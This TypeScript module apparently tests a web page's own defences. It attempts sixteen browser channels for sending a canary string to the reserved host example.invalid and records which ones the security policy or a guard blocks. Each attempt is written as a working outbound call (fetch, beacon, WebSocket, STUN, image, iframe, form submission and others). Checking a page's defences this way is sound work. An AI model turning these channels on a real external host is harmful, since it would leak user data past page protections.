/**
 * Tries in earnest to send something out of the page, and says what stopped it. The address is one
 * that nobody can have (RFC 2606): were a channel open, nothing would reach a server of anybody's. Loaded only
 * where a person asks for it.
 */

const HOST = 'example.invalid';

/** How long the browser has to say that its policy stopped something. */
const VERDICT_MS = 400;

/** The rows of `src/lib/flows/channels.ts` that are tried, in this order. */
export const ATTEMPTS = [
	'fetch',
	'xhr',
	'beacon',
	'event-source',
	'websocket',
	'webtransport',
	'webrtc',
	'image',
	'css-url',
	'import',
	'preconnect',
	'frame',
	'form',
	'link',
	'window',
	'location',
] as const;
export type AttemptId = (typeof ATTEMPTS)[number];

/**
 * What became of an attempt. `left`: nothing here stops it; where trying would end this page (a
 * link, a form, a navigation), it is said without trying.
 */
export type Outcome = 'stopped-by-policy' | 'stopped-by-guard' | 'not-there' | 'left';

/** Whether the guard has taken a global away, or put its own in the place. */
const isFixed = (name: string) =>
	Object.getOwnPropertyDescriptor(window, name)?.configurable === false &&
	Object.getOwnPropertyDescriptor(window, name)?.writable === false;

const isGuarded = () => isFixed('open');

/** Runs an attempt and waits for the policy's word; `otherwise` where it says nothing. */
async function askPolicy(attempt: () => unknown, otherwise: Outcome): Promise<Outcome> {
	const stopped: string[] = [];
	const listen = ({ blockedURI }: SecurityPolicyViolationEvent) => {
		if (blockedURI.includes(HOST)) stopped.push(blockedURI);
	};
	document.addEventListener('securitypolicyviolation', listen);
	try {
		// A refusal is told by the event alone: the exception may have another cause.
		await Promise.race([
			Promise.resolve(attempt()).catch(() => null),
			new Promise((done) => setTimeout(done, VERDICT_MS)),
		]);
	} catch {
		// As above, where the refusal comes at once.
	}
	if (stopped.length === 0) await new Promise((done) => setTimeout(done, VERDICT_MS));
	document.removeEventListener('securitypolicyviolation', listen);
	return stopped.length > 0 ? 'stopped-by-policy' : otherwise;
}

/** An attempt with a constructor that the guard may have taken away. */
async function construct(name: string, attempt: () => unknown): Promise<Outcome> {
	if (isFixed(name)) return 'stopped-by-guard';
	if (!(name in window)) return 'not-there';
	return askPolicy(attempt, 'left');
}

/** Adds an element for as long as the attempt takes. */
async function withElement<E extends Element>(
	element: E,
	use: (element: E) => Promise<Outcome>,
): Promise<Outcome> {
	document.body.append(element);
	const outcome = await use(element);
	element.remove();
	return outcome;
}

type Attempt = (address: string) => Promise<Outcome>;

const RUN: Readonly<Record<AttemptId, Attempt>> = {
	fetch: (address) => askPolicy(() => fetch(address, { mode: 'no-cors' }), 'left'),
	xhr: (address) =>
		askPolicy(() => {
			const request = new XMLHttpRequest();
			request.open('GET', address);
			request.send();
		}, 'left'),
	beacon: (address) => askPolicy(() => navigator.sendBeacon(address, 'x'), 'left'),
	'event-source': (address) =>
		construct('EventSource', async () => {
			const source = new EventSource(address);
			// Closed at once, it would not have tried.
			await new Promise((done) => (source.onerror = done));
			source.close();
		}),
	websocket: (address) =>
		construct('WebSocket', () => {
			new WebSocket(address.replace('https', 'wss')).close();
		}),
	webtransport: (address) =>
		construct('WebTransport', () => {
			new WebTransport(address).close();
		}),
	webrtc: (address) =>
		construct('RTCPeerConnection', async () => {
			const { host } = new URL(address);
			const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${host}` }] });
			peer.createDataChannel('x');
			await peer.setLocalDescription(await peer.createOffer());
			peer.close();
		}),
	image: (address) =>
		askPolicy(() => {
			new Image().src = address;
		}, 'left'),
	'css-url': (address) =>
		withElement(document.createElement('div'), (element) =>
			askPolicy(() => {
				element.style.backgroundImage = `url("${address}")`;
			}, 'left'),
		),
	import: (address) => askPolicy(() => import(/* @vite-ignore */ address), 'left'),
	preconnect(address) {
		const link = document.createElement('link');
		link.rel = 'preconnect';
		if (link.rel !== 'preconnect') return Promise.resolve('stopped-by-guard');
		link.href = address;
		return withElement(link, () => Promise.resolve('left'));
	},
	frame(address) {
		const frame = document.createElement('iframe') as HTMLIFrameElement | null;
		if (frame === null) return Promise.resolve('stopped-by-guard');
		return withElement(frame, () =>
			askPolicy(() => {
				frame.src = address;
			}, 'left'),
		);
	},
	form(address) {
		if (!isGuarded()) return Promise.resolve('left');
		const form = document.createElement('form');
		form.action = address;
		return withElement(form, () =>
			askPolicy(() => {
				form.requestSubmit();
			}, 'stopped-by-guard'),
		);
	},
	link(address) {
		if (!isGuarded()) return Promise.resolve('left');
		const link = document.createElement('a');
		link.href = address;
		return withElement(link, () =>
			askPolicy(() => {
				link.click();
			}, 'stopped-by-guard'),
		);
	},
	window(address) {
		const opened = open(address);
		opened?.close();
		// Without the guard it was the browser that would not, this once: it wants a tap for each window.
		const isStopped = opened === null && isFixed('open');
		return Promise.resolve(isStopped ? 'stopped-by-guard' : 'left');
	},
	location: (address) =>
		isGuarded() && 'navigation' in window
			? askPolicy(() => {
					location.href = address;
				}, 'stopped-by-guard')
			: Promise.resolve('left'),
};

/**
 * Tries the channels one after the other. A page that is left by an attempt is not there to tell.
 *
 * @param canary what is sent: letters, digits and hyphens, at most 40; never a value of a person
 * @param onResult told of each attempt as soon as it is over
 */
export async function tryAllChannels(
	canary: string,
	onResult: (id: AttemptId, outcome: Outcome) => void,
): Promise<void> {
	const name = canary
		.toLowerCase()
		.replaceAll(/[^a-z0-9-]/g, '')
		.slice(0, 40);
	const address = `https://${name}.${HOST}/${name}`;
	for (const id of ATTEMPTS) onResult(id, await RUN[id](address));
}
